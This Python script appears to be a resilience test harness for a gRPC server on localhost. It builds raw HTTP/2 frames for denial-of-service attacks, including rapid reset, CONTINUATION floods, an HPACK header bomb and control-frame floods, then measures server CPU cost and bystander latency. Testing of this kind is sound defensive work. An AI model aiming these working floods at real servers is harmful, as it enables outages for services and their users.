"""Attacks on a gRPC port, frame by frame: called by attack_http2.sh.

attack_http2.py PROGRAM PORT PID COUNT ROUNDS [NAME...]

Each attack is made again and again for a second, on a connection of its own, and sends what it has until it is cut off
or has sent all of it; that, in so many rounds. A line for each, with tabs: its name, how it ended (goaway, closed or
open), how often it was made, the most seconds of processor time that one cost the server; then of calls on other
connections meanwhile how many there were, how many failed, and the slowest hundredth in microseconds; and last, the
same slowest hundredth in the second before, without an attack. Both are medians of the rounds.
"""
import json
import select
import socket
import statistics
import struct
import subprocess
import sys
import time

from processor_time import processor_seconds

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
SECONDS = 1.0  # for each attack
PAUSE = 0.02  # between two of them: the machine has cores for both sides


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    assert len(value) < 127
    return bytes([len(value)]) + value


HEALTH = (b"\x83\x86\x04" + text(b"/grpc.health.v1.Health/Check") + b"\x01" + text(b"x")
          + b"\x0f\x10" + text(b"application/grpc") + b"\x00" + text(b"te") + text(b"trailers"))


def streams(count):
    return range(1, 2 * count, 2)


def rapid_reset(count):
    for stream in streams(count):
        yield frame(HEADERS, END_HEADERS, stream, HEALTH) + frame(RESET, 0, stream, struct.pack(">I", 8))


def made_to_reset(payload):
    def attack(count):
        for stream in streams(count):
            yield frame(HEADERS, END_HEADERS, stream, HEALTH) + frame(WINDOW_UPDATE, 0, stream, payload)
    return attack


def data_after_the_end(count):
    for stream in streams(count):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, HEALTH) + frame(DATA, 0, stream, b"x")


def half_priorities(count):  # of a wrong size: each resets its stream
    for stream in streams(count):
        yield frame(HEADERS, END_HEADERS, stream, HEALTH) + frame(PRIORITY, 0, stream, b"xxxx")


def continuations(payload):
    def attack(count):
        yield frame(HEADERS, 0, 1, HEALTH)
        for _ in range(count):
            yield frame(CONTINUATION, 0, 1, payload)
    return attack


def header_bomb(count):  # one large field is remembered, and named by one byte from then on
    large = b"\x40" + text(b"bomb") + b"\x7f\x80\x1e" + 3967 * b"x"
    yield frame(HEADERS, END_HEADERS, 1, HEALTH + large)
    for stream in streams(count // 20):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream + 2, HEALTH + 16000 * b"\xbe")


def huge_headers(count):
    block = b"".join(b"\x00" + text(b"name") + text(120 * b"v") for _ in range(120))
    for stream in streams(count // 100):
        yield frame(HEADERS, 0, stream, HEALTH)
        for _ in range(3):
            yield frame(CONTINUATION, 0, stream, block)
        yield frame(CONTINUATION, END_HEADERS, stream, block)


def many(one):
    def attack(count):
        for _ in range(count // 100):
            yield 100 * one
    return attack


def pieces_of_nothing(one):
    def attack(count):
        yield frame(HEADERS, END_HEADERS, 1, HEALTH)
        yield from many(one)(count)
    return attack


ATTACKS = {
    "rapid reset": rapid_reset,
    "made to reset by WINDOW_UPDATE 0": made_to_reset(struct.pack(">I", 0)),
    "made to reset by a window that overflows": made_to_reset(struct.pack(">I", 0x7FFFFFFF)),
    "made to reset by PRIORITY": half_priorities,
    "DATA after the end": data_after_the_end,
    "CONTINUATION flood": continuations(b""),
    "CONTINUATION flood, a byte each": continuations(b"\x82"),
    "header bomb": header_bomb,
    "huge headers": huge_headers,
    "SETTINGS flood": many(frame(SETTINGS, 0, 0)),
    "PING flood": many(frame(PING, 0, 0, 8 * b"p")),
    "PRIORITY flood": many(frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 1))),
    "WINDOW_UPDATE flood": many(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "WINDOW_UPDATE 0": many(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0))),
    "empty DATA flood": pieces_of_nothing(frame(DATA, 0, 1)),
    "unknown frames": many(frame(0xBB, 0, 0, b"?")),
}


class Peer:
    """A connection, and what came on it: the kinds of frames."""

    def __init__(self, port):
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.socket.setblocking(False)
        self.pending = b""
        self.kinds = set()
        self.ended = set()  # streams
        self.is_closed = False

    def read(self):
        try:
            some = self.socket.recv(1 << 20)
        except BlockingIOError:
            return
        except OSError:
            some = b""
        self.is_closed = self.is_closed or not some
        self.pending += some
        while len(self.pending) >= 9:
            size = int.from_bytes(self.pending[:3], "big")
            if len(self.pending) < 9 + size:
                return
            kind, flags = self.pending[3], self.pending[4]
            self.kinds.add(kind)
            if kind in (DATA, HEADERS) and flags & END_STREAM:
                self.ended.add(int.from_bytes(self.pending[5:9], "big"))
            self.pending = self.pending[9 + size:]

    # False once nothing more can be sent.
    def send(self, data):
        while data:
            _, writable, _ = select.select([self.socket], [self.socket], [], 60)
            self.read()
            if self.is_closed or GOAWAY in self.kinds or not writable:
                return False
            try:
                data = data[self.socket.send(data):]
            except BlockingIOError:
                pass
            except OSError:
                self.is_closed = True
                return False
        return True

    def until(self, condition, seconds):
        end = time.monotonic() + seconds
        while not condition() and not self.is_closed and time.monotonic() < end:
            select.select([self.socket], [], [], 0.05)
            self.read()
        return condition()


class Bystander:
    """Calls at a rate on connections of its own, by a process of its own: `weir bench`."""

    def __init__(self, program, port, seconds):
        command = [program, "bench", "--grpc", f"127.0.0.1:{port}", "--connections", "2", "--streams", "4",
                   "--rate", "500", "--warmup", "0.1", "--seconds", str(seconds), "--json"]
        self.process = subprocess.Popen(command, stdout=subprocess.PIPE, text=True)

    def is_over(self):
        return self.process.poll() is not None

    def told(self):
        """(calls, failed ones, the slowest hundredth in microseconds); what is not answered by the end has only waited"""
        outcome = json.loads(self.process.communicate(timeout=60)[0])
        return outcome["checks"], outcome["errors"], outcome["p99_ns"] // 1000


def attack_once(name, port, count):
    """How it ended."""
    peer = Peer(port)
    batch = b""
    for piece in ATTACKS[name](count):
        batch += piece
        if len(batch) < 32768:
            continue
        if not peer.send(batch):
            break
        batch = b""
    else:
        peer.send(batch)
    peer.until(lambda: GOAWAY in peer.kinds, 60)
    peer.socket.close()
    return "goaway" if GOAWAY in peer.kinds else "closed" if peer.is_closed else "open"


def run(name, program, port, pid, count, rounds):
    ends, most, told, calm = [], 0.0, [], []
    for _ in range(rounds):
        calm.append(Bystander(program, port, SECONDS).told()[2])
        bystander = Bystander(program, port, SECONDS)
        while not bystander.is_over():
            before = processor_seconds(pid)
            ends.append(attack_once(name, port, count))
            most = max(most, processor_seconds(pid) - before)
            time.sleep(PAUSE)
        told.append(bystander.told())
    calls, failed, p99s = zip(*told)
    print(name, "open" if "open" in ends else ends[0], len(ends), f"{most:.3f}", sum(calls), sum(failed),
          statistics.median_low(p99s), statistics.median_low(calm), sep="\t", flush=True)


if __name__ == "__main__":
    for attack in sys.argv[6:] or ATTACKS:
        run(attack, sys.argv[1], *map(int, sys.argv[2:6]))
